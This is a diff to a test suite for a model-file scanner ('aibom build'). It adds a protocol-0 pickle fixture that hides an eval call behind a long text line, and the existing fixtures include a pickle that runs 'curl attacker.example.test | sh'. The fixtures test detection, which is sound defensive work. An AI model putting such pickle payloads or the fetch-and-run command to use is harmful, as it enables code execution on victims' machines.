@@ -134,6 +134,17 @@ describe('aibom build: models in every supported format', () => {
   const cleanPt = torchZipCheckpoint();
   const evilBin = osSystemPickle('curl attacker.example.test | sh');
   const evalPkl = memoEvalPickle();
+  // Protocol 0 carries data as text lines, here 200 KB long, before the import.
+  const proto0 = new PickleWriter()
+    .raw(`V${'x'.repeat(200_000)}\n`)
+    .raw('0')
+    .global('__builtin__', 'eval')
+    .mark()
+    .raw("S'1+1'\n")
+    .tuple()
+    .reduce()
+    .stop()
+    .bytes();
   const numpyPkl = new PickleWriter()
     .proto(2)
     .global('numpy.core.multiarray', '_reconstruct')
@@ -156,6 +167,7 @@ describe('aibom build: models in every supported format', () => {
       'ckpt/evil.bin': evilBin,
       'ckpt/eval.pkl': evalPkl,
       'ckpt/arrays.pkl': numpyPkl,
+      'ckpt/proto0.pkl': proto0,
       'ckpt/random.bin': randomBytes(4096),
       'src/models/user.py': 'class User: pass\n',
       'models/tiny-chat/model.sig': sig,
@@ -174,6 +186,7 @@ describe('aibom build: models in every supported format', () => {
       'model:ckpt/clean.pt',
       'model:ckpt/eval.pkl',
       'model:ckpt/evil.bin',
+      'model:ckpt/proto0.pkl',
       'model:encoder/encoder.onnx',
       'model:models/q4.gguf',
       'model:models/tiny-chat',
@@ -286,7 +299,7 @@ describe('aibom build: models in every supported format', () => {
     const arrays = component(bom, 'model:ckpt/arrays.pkl');
     expect(props(arrays, 'aibom:pickle:imports')).toEqual(['numpy.core.multiarray._reconstruct, numpy.ndarray']);
     const pickleModel = findingsOf(built, 'pickle-model').map((f) => f.component).sort();
-    expect(pickleModel).toEqual(['model:ckpt/arrays.pkl', 'model:ckpt/clean.pt', 'model:ckpt/eval.pkl', 'model:ckpt/evil.bin']);
+    expect(pickleModel).toEqual(['model:ckpt/arrays.pkl', 'model:ckpt/clean.pt', 'model:ckpt/eval.pkl', 'model:ckpt/evil.bin', 'model:ckpt/proto0.pkl']);
     expect(findingsOf(built, 'pickle-model').every((f) => f.severity === 'medium')).toBe(true);
     const unsafe = findingsOf(built, 'pickle-unsafe-import');
     expect(unsafe.filter((f) => f.component === 'model:ckpt/clean.pt' || f.component === 'model:ckpt/arrays.pkl')).toEqual([]);
@@ -302,6 +315,11 @@ describe('aibom build: models in every supported format', () => {
     expect(ev?.severity).toBe('critical');
     expect(ev?.message).toContain('builtins.eval');
     expect(props(component(bom, 'model:ckpt/evil.bin'), 'aibom:pickle:imports')).toEqual(['posix.system']);
+    // Protocol 0: long text lines are skipped, the import after them is still found (Python 2 names mapped).
+    const p0 = unsafe.find((f) => f.component === 'model:ckpt/proto0.pkl');
+    expect(p0?.severity).toBe('critical');
+    expect(p0?.message).toContain('builtins.eval and calls it');
+    expect(findingsOf(built, 'pickle-unscanned').filter((f) => f.component === 'model:ckpt/proto0.pkl')).toEqual([]);
     // The finding travels in the BOM, on the component.
     expect(props(component(bom, 'model:ckpt/evil.bin'), 'aibom:finding').some((v) => v.startsWith('critical pickle-unsafe-import'))).toBe(true);
   });
